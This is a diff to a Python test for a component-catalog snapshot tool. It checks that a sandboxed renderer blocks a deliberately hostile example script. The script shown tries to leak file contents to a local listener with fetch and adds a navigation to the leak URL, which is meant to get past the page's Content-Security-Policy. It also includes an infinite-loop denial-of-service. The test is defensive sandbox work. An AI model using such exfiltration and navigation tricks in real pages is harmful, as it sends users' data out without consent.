@@ -242,6 +242,8 @@ HOSTILE_SCRIPT = """
       .then(function (t) { fetch(leak + "?file=" + encodeURIComponent(t)); }).catch(function () {});
   } catch (e) {}
   try { fetch("http://localhost:" + port + "/leak?name").catch(function () {}); } catch (e) {}
+  // A navigation is not a fetch: the page's Content-Security-Policy does not stop it, the proxy does.
+  if (document.querySelector("[data-navigate]")) { window.location.href = leak + "?navigate"; }
   if (document.querySelector("[data-spin]")) { for (;;) {} }
 })();
 """
@@ -252,7 +254,8 @@ def hostile_catalog(tmp_path, port):
         shutil.copytree(REPOSITORY / "Tests" / "Fixtures" / "web" / folder, tmp_path / folder)
     (tmp_path / "ui" / "ui-card.js").write_text(HOSTILE_SCRIPT % port)
     card = tmp_path / "catalog" / "components" / "card" / "component.yaml"
-    card.write_text(card.read_text() + "  - title: Spinning\n    html: '<div class=\"ui-card\" data-spin><p>Spins.</p></div>'\n")
+    card.write_text(card.read_text() + "  - title: Spinning\n    html: '<div class=\"ui-card\" data-spin><p>Spins.</p></div>'\n"
+                    + "  - title: Navigating\n    html: '<div class=\"ui-card\" data-navigate><p>Leaves.</p></div>'\n")
     settings = tmp_path / "catalog" / "catalog.yaml"
     settings.write_text(settings.read_text() + "snapshots:\n  widths: [390]\n  schemes: [light]\n")
     return tmp_path / "catalog"
@@ -299,11 +302,15 @@ def test_an_examples_script_reaches_nothing_and_one_that_spins_stalls_no_other(t
         catalog = hostile_catalog(tmp_path, listener.port)
         run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(tmp_path / "public"), "--update",
                               "--format", "json", "--timeout", "8"],
-                             capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}, timeout=600)
+                             capture_output=True, text=True, timeout=600,
+                             # One tab: every page after the spinning one is drawn in the tab it hung.
+                             env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1", "CATALOG_BUILD_SNAPSHOT_WORKERS": "1"})
         findings = json.loads(run.stdout or "[]")
         not_drawn = [f for f in findings if f["rule"] == "snapshot.not-drawn"]
-        # The spinning example alone is not drawn; every other example and state is.
-        assert not_drawn and all("Spinning" in f["message"] for f in not_drawn), findings
+        # The spinning example is not drawn (nor, perhaps, the one that navigated away to nothing);
+        # every other example and state is.
+        assert any("Spinning" in f["message"] for f in not_drawn), findings
+        assert all("Spinning" in f["message"] or "Navigating" in f["message"] for f in not_drawn), findings
         drawn = sorted(str(p.relative_to(catalog / "snapshots")) for p in (catalog / "snapshots").rglob("*.png"))
         assert any("card/web-example-with-a-long-text" in p or "card/" in p and "long" in p for p in drawn), drawn
         assert any(p.startswith("button/") for p in drawn), drawn
